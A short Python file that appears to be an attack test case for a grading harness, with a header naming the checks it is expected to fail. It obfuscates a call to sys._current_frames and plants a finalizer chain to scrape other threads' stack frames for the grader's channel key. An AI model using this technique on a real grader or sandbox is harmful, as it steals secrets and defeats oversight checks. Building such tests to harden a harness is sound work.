# attack: looks for the grader's main thread (where the channel's key lives) through the stacks of every thread, a C-level chain run as a finalizer (no frame of its own on the stack), and the frames of a traceback
# expect-fail: correct.record_snapshot safe.reentrant safe.batch_atomic safe.error_midway safe.concurrent
import functools as _functools
import itertools as _itertools
import sys as _sys

_loot = []
_cf = getattr(_sys, "_current" + "_frames")
try:
    _loot.append(_cf())
except Exception:
    pass


class _Bait:
    pass


_Bait.__del__ = _functools.partial(list.extend, _loot, _itertools.islice(iter(_cf, None), 1))
_bait = _Bait()
del _bait
